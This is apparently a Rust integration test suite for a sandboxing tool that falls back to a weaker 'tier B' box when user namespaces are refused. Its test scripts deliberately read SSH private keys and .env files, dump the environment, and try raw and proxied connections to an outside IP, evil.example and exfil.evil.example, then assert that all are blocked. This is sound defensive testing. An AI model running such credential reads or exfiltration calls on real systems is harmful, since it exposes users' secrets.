//! Where user namespaces are refused: does a run fall back to tier B, say so, and still stand behind the gate?

use crate::support::log::Log;
use crate::support::project::{Project, Ran, SECRETS};
use crate::support::sink::Sink;
use serde_json::Value;

fn run(project: &Project, options: &[&str], script: &str) -> Ran {
    let mut args = vec!["run"];
    args.extend(options);
    args.extend(["--", "bash", "-c", script]);
    let ran = project
        .bartizan(&args)
        .env("ANTHROPIC_BASE_URL", "http://127.0.0.1:9")
        .without_namespaces()
        .finish();
    for secret in SECRETS {
        assert!(!ran.stdout.contains(secret), "`{secret}` was seen in the box");
    }
    ran
}

#[test]
fn a_run_falls_back_says_so_first_and_its_work_lands() {
    let project = Project::new();
    let ran = run(
        &project,
        &[],
        "cat notes.txt > /dev/null && echo made > made.txt && chmod 755 made.txt && mkdir .claude && echo '{}' > .claude/settings.json; \
         cat ~/.ssh/id_rsa ../*/.env; cat $HOME/../../.ssh/id_rsa; env; true",
    );
    assert_eq!(ran.status.code(), Some(0), "{ran:?}");
    assert!(
        ran.stderr
            .starts_with("warning: this machine refuses user namespaces, so the box is tier B"),
        "{ran:?}"
    );
    assert!(
        ran.stderr.contains("workspace: a copy at `/var/tmp/") && ran.stderr.contains("box tier B"),
        "{ran:?}"
    );
    assert_eq!(project.file("made.txt").as_deref(), Some("made\n"));
    assert_eq!(project.file(".claude/settings.json"), None);
    let log = Log::read(&project);
    log.find("session_end", |record| record["report_sha256"].is_string());
    log.is_whole(&project);
}

#[test]
fn who_requires_tier_a_is_refused_with_the_remedy_and_nothing_runs() {
    let project = Project::new();
    let ran = run(&project, &["--require-tier", "a"], "echo RAN; touch made.txt");
    assert_ne!(ran.status.code(), Some(0), "{ran:?}");
    assert!(!ran.stdout.contains("RAN") && project.file("made.txt").is_none(), "{ran:?}");
    assert!(ran.stderr.contains("hint: ") && !ran.stderr.contains("tier B"), "{ran:?}");
    let ran = run(&project, &["--require-tier", "b", "--json"], "true");
    let summary = ran.stderr.lines().find(|line| line.starts_with('{')).unwrap();
    assert_eq!(serde_json::from_str::<Value>(summary).unwrap()["tier"], "B");
}

#[test]
fn every_connection_is_judged_and_none_leaves() {
    let project = Project::new();
    let sink = Sink::start();
    let ran = run(
        &project,
        &[],
        &format!(
            "exec python3 - <<'P'\nimport socket, os, urllib.request\n\
             def no(f):\n  try: return str(f())\n  except Exception as e: return type(e).__name__\n\
             for a in (('127.0.0.1', {0}), ('0.0.0.0', {0})): print('direct', no(lambda: socket.create_connection(a, 5)))\n\
             s = socket.create_connection(('93.184.216.34', {0}), 10); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print('raw', s.recv(99)[:12])\n\
             print('proxy', no(lambda: urllib.request.urlopen('http://evil.example/', timeout=10)))\n\
             os.environ.clear(); print('name', no(lambda: socket.gethostbyname('exfil.evil.example'))[:7])\nP",
            sink.port()
        ),
    );
    assert!(
        ran.stdout.contains("direct ConnectionRefusedError\ndirect ConnectionRefusedError\n"),
        "{ran:?}"
    );
    assert!(ran.stdout.contains("proxy HTTPError"), "{ran:?}");
    assert_eq!(sink.arrived(), [""; 0]);
    let log = Log::read(&project);
    for target in ["93.184.216.34", "evil.example"] {
        let stopped = log.stopped(|record| record.to_string().contains(target));
        assert!(
            stopped.iter().any(|record| record["tool"] == "net.connect"),
            "{target}: {stopped:?}"
        );
    }
}

#[test]
fn the_doctor_says_which_tier_stands_here_and_prints_the_profile() {
    let project = Project::new();
    let ran = project.bartizan(&["doctor"]).without_namespaces().finish();
    assert_eq!(ran.status.code(), Some(0), "{ran:?}");
    assert!(ran.stdout.contains("trial box") && ran.stdout.contains("tier B: built"), "{ran:?}");
    let ran = project.bartizan(&["doctor", "--apparmor-profile"]).finish();
    assert!(
        ran.stdout.contains("userns,") && ran.stdout.contains(env!("CARGO_BIN_EXE_bartizan")),
        "{ran:?}"
    );
}
